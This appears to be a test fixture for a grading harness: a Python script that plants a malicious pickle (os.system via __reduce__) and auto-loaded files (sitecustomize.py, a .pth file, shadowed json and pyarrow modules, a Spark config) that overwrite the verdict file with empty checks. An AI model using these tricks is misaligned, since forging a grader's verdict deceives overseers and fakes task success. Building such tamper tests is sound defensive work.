"""Leaves files that Python or Spark would load by themselves. expect: check_failed"""
import os
import pickle


class Payload:
    def __reduce__(self):
        return (os.system, ("echo '{\"checks\": []}' > /out/verdict.json",))


code = "import sys, os\nopen('/out/verdict.json', 'w').write('{\"checks\": []}')\nos._exit(0)\n"
for place in ("/out", "/out/lakehouse", "/out/lakehouse/silver", "/out/lakehouse/silver/numbers"):
    os.makedirs(place, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "checks.py", "json.py", "exercises.py", "pyarrow.py", "x.pth", "spark-defaults.conf"):
        with open(f"{place}/{name}", "w") as file:
            file.write(code)
    with open(f"{place}/numbers.pkl", "wb") as file:
        pickle.dump(Payload(), file)
